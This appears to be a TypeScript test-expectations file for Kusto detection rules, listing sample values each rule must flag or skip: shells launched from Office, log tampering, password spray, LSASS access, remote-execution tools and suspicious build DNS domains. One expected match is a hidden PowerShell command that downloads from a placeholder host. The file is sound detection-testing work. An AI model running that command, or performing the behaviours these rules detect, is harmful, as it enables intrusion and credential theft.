/** What the Kusto rules must find in the samples. */
import type { RowExpectation } from './rows.ts'

export const kustoExpectations: readonly RowExpectation[] = [
  {
    rule: 'attachment-starts-script-host',
    column: 'ProcessCommandLine',
    finds: ['wscript.exe order.js from the order'],
    leaves: [
      ['cmd.exe /c got a picture only', 'no document came by mail'],
      ['splwow64.exe prints the report', 'no script host'],
    ],
  },
  {
    rule: 'aws-trail-tampered',
    column: 'EventName',
    finds: ['DeleteTrail', 'StopLogging'],
    leaves: [['StartLogging', 'logging is switched on, not off']],
  },
  {
    rule: 'click-burst',
    column: 'Timestamp',
    finds: ['2026-11-03T10:00:00.0000000Z'],
    leaves: [['letter3', 'a usual click']],
  },
  {
    rule: 'click-starts-process',
    column: 'ProcessCommandLine',
    finds: [
      'mshta.exe sixty seconds to the dot',
      'powershell.exe -w hidden -c "iwr https://invoice-portal.example.net/a"',
    ],
    leaves: [
      ['cmd.exe /c a second too late', '61 seconds after the click'],
      ['cmd.exe /c mail from inside', 'the message came from inside'],
      ['curl.exe after a blocked click', 'the click was blocked'],
    ],
  },
  {
    rule: 'emergency-account-used',
    column: 'UserPrincipalName',
    finds: ['Emergency1@corp.example.com'],
    leaves: [['emergency2@corp.example.com', 'from its own network, and a logon that failed']],
  },
  {
    rule: 'entra-password-spray',
    column: 'UserPrincipalName',
    finds: ['user27@corp.example.com'],
    leaves: [['user41@corp.example.com', 'seven people of one office mistyped']],
  },
  {
    rule: 'failed-logons-then-success',
    column: 'AccountName',
    finds: ['it-admin'],
    leaves: [
      ['user39', 'the logon that succeeds comes half an hour later'],
      ['user40', 'nine failures'],
    ],
  },
  {
    rule: 'gcp-dns-build-indicators',
    column: 'DNSCustomEntity',
    finds: [
      'a.x7q2setup9hook.pages.example',
      'build-runner-2.a1103c0de.d.callback.example',
      'collect.pip-mirror.example',
      'wheel-stats.hosting.example',
    ],
    leaves: [
      ['collect.pip-mirror.example2.test', 'another name that begins alike'],
      ['mycollect.pip-mirror.example', 'another name that ends alike'],
    ],
  },
  {
    rule: 'long-dns-label',
    column: 'Parent',
    finds: ['3.sync.example.test'],
    leaves: [['europe-west1-b.c.example-build-1103.internal', 'one query']],
  },
  {
    rule: 'lsass-opened',
    column: 'InitiatingProcessFileName',
    finds: ['hostmon.exe', 'python.exe'],
    leaves: [['MonitoringHost.exe', 'without the right to read memory']],
  },
  {
    rule: 'mass-rename',
    column: 'DeviceName',
    finds: ['fs03'],
    leaves: [
      ['fs04', '180 files'],
      ['fs05', '240 files in two minutes'],
      ['fs06', 'an account of a machine'],
    ],
  },
  {
    rule: 'office-starts-shell',
    column: 'FileName',
    finds: ['cmd.exe', 'powershell.exe', 'wscript.exe'],
    leaves: [['splwow64.exe', 'prints']],
  },
  {
    rule: 'rare-program-user-folder',
    column: 'FileName',
    finds: ['PYTHON3.EXE', 'archiver.exe', 'hostmon.exe', 'python.exe'],
    leaves: [['chrome.exe', 'not in such a folder']],
  },
  {
    rule: 'remote-execution-tool',
    column: 'FileName',
    finds: ['PSEXESVC.exe', 'PsExec64.exe', 'wmic.exe'],
    leaves: [['wmic os get caption /nodes', 'names no other machine']],
  },
]
